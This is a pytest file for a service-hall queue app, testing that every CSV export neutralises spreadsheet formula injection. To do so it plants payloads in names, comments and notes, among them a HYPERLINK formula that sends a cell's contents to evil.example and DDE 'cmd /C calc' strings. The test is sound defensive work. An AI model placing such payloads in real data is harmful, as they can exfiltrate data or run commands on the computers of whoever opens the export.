"""Every CSV export is safe to open in a spreadsheet (tongban/csvout.py): a formula typed into any free
text that reaches a CSV (a citizen's comment on the pad, a transfer note, a clerk's name or staff
number, a case's fields, the hall file's names) comes out as text, never as a formula. The values go
in through the real pages and API, and every CSV route of the app is downloaded."""

from __future__ import annotations

import csv
import io
import re

import pytest

from tongban import csvout
from tongban.config import parse_hall_config
from tongban.queue import reports
from tongban.queue.accounts import Accounts
from tongban.queue.store import Store
from tongban.web.app import create_app

from .apiclient import PASSWORD, HallClient
from .conftest import small_hall_doc
from .roles import Role, staff_role, terminal_role
from .test_cases_pages import ID_1, PHONE_1

DAY = "2026-11-26"  # the clock fixture's day
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'

#: Everything planted, by where it goes in; each must come out of some CSV as text.
PLANTED = {
    "department": "=1+2公积金中心",
    "matter_code": "@M3",
    "matter_name": "-正常退休提取住房公积金",
    "line_name": "+人社业务",
    "clerk_name": HYPERLINK,
    "clerk_staff_no": "-0042",
    "clerk2_username": "@clerk2",
    "clerk2_name": "+李四",
    "comment": '=cmd|" /C calc"!A0',
    "comment_api": "-2+3+cmd|' /C calc'!A0",
    "transfer_note": "=1+1",
    "transfer_reason_api": "@SUM(A1:A9)",
    "applicant": "=张三",
    "handling_dept": "+杭州市公积金中心",
}


@pytest.fixture
def hall_config():
    doc = small_hall_doc()
    doc["departments"][1]["name_zh"] = PLANTED["department"]
    m3 = doc["matters"][2]
    m3["code"], m3["name_zh"] = PLANTED["matter_code"], PLANTED["matter_name"]
    doc["lines"][1]["matters"] = [PLANTED["matter_code"]]
    doc["lines"][0]["name_zh"] = PLANTED["line_name"]
    return parse_hall_config(doc, "formula-hall")


@pytest.fixture
def hall(tmp_path, hall_config, clock):
    db = str(tmp_path / "api.db")
    app = create_app({"HALL": hall_config, "DATABASE": db, "CLOCK": clock, "TESTING": True})
    store = Store(db)
    accounts = Accounts(store, clock)
    accounts.add("manager", PASSWORD, name="经理", role="manager")
    accounts.add("clerk1", PASSWORD, name=PLANTED["clerk_name"], role="clerk", staff_no=PLANTED["clerk_staff_no"])
    accounts.add(PLANTED["clerk2_username"], PASSWORD, name=PLANTED["clerk2_name"], role="clerk", staff_no="\t7")
    hall = HallClient(app, accounts.add_terminal("kiosk-1", "kiosk", "1号取号机"))
    pads = {n: accounts.add_terminal(f"pad-{n}", "pad", f"{n}号评价器", window=n) for n in (1, 2)}
    store.close()
    hall.pads = {n: terminal_role(hall, f"pad-{n}", token) for n, token in pads.items()}
    return hall


def _ok(r, *statuses):
    assert r.status_code in (statuses or (200,)), (r.status_code, r.get_data(as_text=True)[:300])
    return r


def _issue(hall, **what) -> dict:
    return _ok(hall.call("POST", "/tickets", hall.kiosk, json=what), 201).get_json()


def _serve_at_console(clerk: Role, window: int) -> int:
    """The clerk calls the next ticket at the console and starts serving it; its id."""
    _ok(clerk.open(f"/window/{window}/next", "POST", headers={"HX-Request": "true"}))
    ticket = next(w["current"] for w in clerk.open("/api/v1/windows").get_json() if w["number"] == window)
    _ok(clerk.open(f"/window/{window}/ticket/{ticket['id']}/start", "POST", headers={"HX-Request": "true"}))
    return ticket["id"]


def _plant_everything(hall) -> None:
    clerk1 = staff_role(hall, "clerk1", window=1)
    clerk2 = staff_role(hall, PLANTED["clerk2_username"], window=2)
    for clerk, n in ((clerk1, 1), (clerk2, 2)):
        _ok(clerk.open(f"/window/{n}/state/open", "POST", headers={"HX-Request": "true"}))

    # Window 2: the proxy matter, a case opened on the case page, then rated badly through the API.
    _issue(hall, matter=PLANTED["matter_code"])
    case_ticket = _serve_at_console(clerk2, 2)
    form = {
        "ticket": str(case_ticket),
        "applicant_name": PLANTED["applicant"],
        "id_number": ID_1,
        "phone": PHONE_1,
        "address": "杭州市文三路 100 号",
        "handling_dept": PLANTED["handling_dept"],
        "material_0": "on",
        "copies_0": "1",
    }
    _ok(clerk2.open("/cases/new", "POST", form=form), 303)
    _ok(clerk2.open(f"/window/2/ticket/{case_ticket}/finish", "POST", headers={"HX-Request": "true"}))
    rating = {"level": 2, "reasons": ["slow"], "comment": PLANTED["comment_api"]}
    _ok(hall.pads[2].open(f"/api/v1/tickets/{case_ticket}/rate", "POST", json=rating), 201)

    # Window 1: served, then rated badly on the pad with a formula for a comment.
    for _ in range(3):
        _issue(hall, line="A")
    first = _serve_at_console(clerk1, 1)
    _ok(clerk1.open(f"/window/1/ticket/{first}/finish", "POST", headers={"HX-Request": "true"}))
    form = {"ticket": str(first), "level": "1", "reasons": ["attitude", "unclear"], "comment": PLANTED["comment"]}
    _ok(hall.pads[1].open("/window/1/pad/rate", "POST", form=form, headers={"HX-Request": "true"}))
    # Transfers: a note on the console's dialog, a reason through the API.
    second = _serve_at_console(clerk1, 1)
    form = {"ticket": str(second), "target": "line:B", "note": PLANTED["transfer_note"]}
    _ok(clerk1.open("/window/1/transfer", "POST", form=form, headers={"HX-Request": "true"}))
    third = _serve_at_console(clerk1, 1)
    body = {"to_line": "B", "reason": PLANTED["transfer_reason_api"]}
    _ok(clerk1.open(f"/api/v1/tickets/{third}/transfer", "POST", json=body))


def _csv_urls(app) -> list[str]:
    """Every CSV the app exports, from its url_map: a CSV route this test does not know fails it."""
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith(".csv"):
            continue
        if rule.rule == "/manage/report/<name>.csv":
            urls += [f"/manage/report/{name}.csv?day={DAY}" for name in reports.COLUMNS]
        elif rule.rule == "/cases/export.csv":
            urls.append("/cases/export.csv")
        else:
            pytest.fail(f"a CSV export this test does not download: {rule.rule}")
    return urls


def test_no_cell_of_any_csv_export_begins_like_a_formula(hall):
    _plant_everything(hall)
    manager = staff_role(hall, "manager")
    cells: list[str] = []
    urls = _csv_urls(hall.app)
    assert len(urls) == len(reports.COLUMNS) + 1
    for url in urls:
        r = manager.open(url)
        assert r.status_code == 200, url
        # The charset is said once (werkzeug adds it to a text/ type; it used to be said twice).
        assert r.headers["Content-Type"] == "text/csv; charset=utf-8", (url, r.headers["Content-Type"])
        assert 'attachment; filename="' in r.headers["Content-Disposition"]
        body = r.get_data(as_text=True)
        assert body.startswith(csvout.BOM), url
        for row in csv.reader(io.StringIO(body[1:])):
            for value in row:
                assert not value.startswith(csvout.FORMULA_START), (url, value)
                cells.append(value)
    text = "\n".join(cells)
    # Everything planted came out (so the check above saw it), as text behind an apostrophe.
    for where, value in PLANTED.items():
        if where != "applicant":  # exported masked: =**
            assert f"'{value}" in text, (where, value)
    assert "'=**" in text  # the applicant's name, masked, still neutralised
    assert "'\t7" in text  # clerk 2's staff number


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised(hall):
    _plant_everything(hall)
    rows = list(csv.reader(io.StringIO(staff_role(hall, "manager").open(f"/manage/report/lines.csv?day={DAY}").text)))
    issued = rows[0].index(next(h for h in rows[0] if h.startswith(reports.COLUMNS["lines"][2][1])))
    assert [row[issued] for row in rows[1:]] == ["3", "1"]  # plain numbers, no apostrophe
    out = csvout.document(["n", "x"], [[-1.5, "-1.5"], [-3, None], [0, "@"]])
    assert out.splitlines() == [csvout.BOM + "n,x", "-1.5,'-1.5", "-3,", "0,'@"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_each_formula_start_is_neutralised(start):
    assert csvout.cell(f"{start}1+1") == f"'{start}1+1"
    assert csvout.cell(f"a{start}1") == f"a{start}1"
    assert re.fullmatch(r"\d+", str(csvout.cell(12)))
